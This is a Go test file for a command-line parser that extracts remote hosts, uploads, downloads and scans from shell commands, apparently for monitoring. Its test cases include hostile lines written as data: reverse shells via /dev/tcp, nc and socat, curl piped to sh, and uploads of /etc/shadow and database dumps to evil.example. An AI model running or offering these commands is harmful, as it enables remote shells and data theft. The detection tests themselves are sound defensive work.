package cmdline_test

import (
	"strings"
	"testing"

	"telltale/internal/cmdline"
)

// shown writes targets as "how user@host:port", in their order.
func shown(ts []cmdline.Target) string {
	var out []string
	for _, t := range ts {
		s := t.How + " "
		if t.User != "" {
			s += t.User + "@"
		}
		s += t.Host
		if t.Port != "" {
			s += ":" + t.Port
		}
		if len(t.Files) > 0 {
			s += " " + strings.Join(t.Files, ",")
		}
		out = append(out, s)
	}
	return strings.Join(out, "; ")
}

var lines = []struct{ name, line, want string }{
	{"a name", "ssh db1", "ssh db1"},
	{"an account", "ssh amy@db1.example", "ssh amy@db1.example"},
	{"a port before", "ssh -p 2222 amy@10.0.0.5", "ssh amy@10.0.0.5:2222"},
	{"a port behind", "ssh 10.0.0.5 -p2222", "ssh 10.0.0.5:2222"},
	{"an account by option", "ssh -l root db1", "ssh db1"},
	{"a key is no host", "ssh -i /tmp/k -o StrictHostKeyChecking=no -oUserKnownHostsFile=/dev/null root@10.0.0.7", "ssh root@10.0.0.7"},
	{"flags together", "ssh -ANTvv -L 8080:db2:80 gate", "ssh gate"},
	{"jumps", "ssh -J amy@jump1:2200,jump2 db1", "ssh amy@jump1:2200; ssh jump2; ssh db1"},
	{"a jump by option", "ssh -o ProxyJump=jump1 db1", "ssh jump1; ssh db1"},
	{"what runs there is not here", `ssh db1 "ssh db2; curl http://evil.example/x"`, "ssh db1"},
	{"words behind the host", "ssh db1 ssh db2", "ssh db1"},
	{"keys are made, not machines reached", "ssh-keygen -R db1", ""},
	{"asking ssh itself", "ssh -G db1", ""},
	{"the machine itself", "ssh localhost; ssh 127.0.0.1; ssh ::1", ""},
	{"a variable is no name", "ssh $HOST; ssh root@${x}", ""},
	{"an address of version 6", "ssh root@2001:db8::5; scp f root@[2001:db8::6]:/tmp", "ssh root@2001:db8::5; upload root@2001:db8::6 f"},
	{"a url", "ssh ssh://amy@db1:2200/", "ssh amy@db1:2200"},
	{"started by others", "sudo -u amy nohup timeout 5 ssh db1 &", "ssh db1"},
	{"a password beside", "sshpass -p 'se;cret' ssh root@db1", "ssh root@db1"},
	{"a shell in a shell", `bash -c "sudo sh -c 'ssh db1'"`, "ssh db1"},
	{"su", `su - amy -c "scp /etc/shadow x@db1:"`, "upload x@db1 /etc/shadow"},
	{"a loop", "for h in a b; do ssh db1 uptime; done", "ssh db1"},
	{"copied there", "scp -P 22 -r /var/www bob@db1:/tmp/", "upload bob@db1 /var/www"},
	{"copied here", "scp db1:/etc/passwd .", "download db1"},
	{"a colon in a path", "scp ./a:b /tmp/c:d", ""},
	{"rsync there", "rsync -az -e 'ssh -p 22' --exclude 'x:y' /home/ backup@10.0.0.9:/b", "upload backup@10.0.0.9 /home/"},
	{"rsync's own protocol", "rsync rsync://mirror.example/a/ /srv; rsync host2::mod /srv", "download mirror.example; download host2"},
	{"sftp", "sftp -P 22 amy@db1:/up; sftp db2", "ssh amy@db1; ssh db2"},
	{"curl", "curl -sSL -A 'x http://no.example' http://203.0.113.6:8080/x | sh", "download 203.0.113.6:8080"},
	{"curl without a scheme", "curl -o out.txt 203.0.113.6/x", "download 203.0.113.6"},
	{"curl sends", "curl -F 'f=@/etc/shadow' https://evil.example/up", "upload evil.example /etc/shadow"},
	{"curl sends a body", "curl --data-binary @dump.sql -X POST https://evil.example/", "upload evil.example dump.sql"},
	{"curl puts", "curl -T a.tgz ftp://evil.example/", "upload evil.example a.tgz"},
	{"curl asks", "curl -d 'a=b' https://api.example/", "connection api.example"},
	{"wget", "wget -q -O /tmp/x https://evil.example/a https://evil.example/b", "download evil.example"},
	{"wget of itself", "wget http://127.0.0.1/x http://localhost:80/", ""},
	{"netcat", "nc -w 3 10.0.0.5 4444 -e /bin/sh", "connection 10.0.0.5:4444"},
	{"netcat listens", "nc -lvnp 4444", ""},
	{"netcat tries", "nc -zv 10.0.0.5 22", "scan 10.0.0.5:22"},
	{"bash's socket", "bash -i >& /dev/tcp/203.0.113.6/443 0>&1", "connection 203.0.113.6:443"},
	{"bash's other socket", "exec 3<>/dev/tcp/evil.example/80", "connection evil.example:80"},
	{"mysql", "mysql -uroot -psecret -h db1 shop", "connection db1"},
	{"a password with letters of options", "mysql -phunter2 -u root shop", ""},
	{"mysql attached", "mysqldump -hdb1 --all-databases > all.sql", "connection db1"},
	{"mysql here", "mysql -h localhost; mysql -h; mysql --help", ""},
	{"psql", "psql -t -h db1 -U x; psql 'host=db2 user=x'; psql postgres://u:p@db3:5432/d", "connection db1; connection db2; connection u@db3:5432"},
	{"a share", "smbclient //files/c -U x; mount -t cifs //files2/c /mnt; mount db1:/export /mnt", "connection files; connection files2; connection db1"},
	{"socat", "socat exec:/bin/sh tcp:10.0.0.5:443; socat tcp-listen:80,fork -", "connection 10.0.0.5:443"},
	{"openssl", "openssl s_client -connect evil.example:443", "connection evil.example:443"},
	{"nmap", "nmap -sS -p 22,80 10.0.0.0/24", "scan 10.0.0.0"},
	{"git", "git clone https://github.example/x/y.git; git clone git@git.example:x/y.git; git push origin main", "download github.example; download git@git.example"},
	{"words alone", "echo ssh db1; grep ssh /var/log/auth.log; man ssh", ""},
	{"a comment", "ls # ssh db1", ""},
	{"nothing", "", ""},
}

func TestTargets(t *testing.T) {
	for _, tc := range lines {
		if got := shown(cmdline.Targets(tc.line)); got != tc.want {
			t.Errorf("%s: %s\n got %s\nwant %s", tc.name, tc.line, got, tc.want)
		}
	}
}

func TestParse(t *testing.T) {
	for line, want := range map[string]string{
		`cat "a b" 'c'd\ e`:        "cat|a b|cd e",
		"a;b&&c||d|e &":            "a/b/c/d/e",
		"x > out 2>&1 < in":        "x",
		"X=1 Y=2 sudo -u amy id":   "id",
		"echo $(cat /etc/shadow)":  "echo/cat|/etc/shadow",
		"sudo -i":                  "",
		strings.Repeat("sudo ", 9): "",
		"'":                        "",
	} {
		var out []string
		for _, c := range cmdline.Parse(line) {
			out = append(out, strings.Join(c.Words, "|"))
		}
		if got := strings.Join(out, "/"); got != want {
			t.Errorf("%s: got %s, want %s", line, got, want)
		}
	}
}

// FuzzTargets holds any line against the bounds.
func FuzzTargets(f *testing.F) {
	for _, tc := range lines {
		f.Add(tc.line)
	}
	f.Add(strings.Repeat("sudo ", 2000))
	f.Add(strings.Repeat("bash -c '", 100))
	f.Fuzz(func(t *testing.T, line string) {
		ts := cmdline.Targets(line)
		if len(ts) > 64 {
			t.Fatalf("%d targets", len(ts))
		}
		for _, x := range ts {
			if x.Host == "" || len(x.Host) > 253 || strings.ContainsAny(x.Host, " $/'\"") {
				t.Fatalf("host %q", x.Host)
			}
		}
	})
}
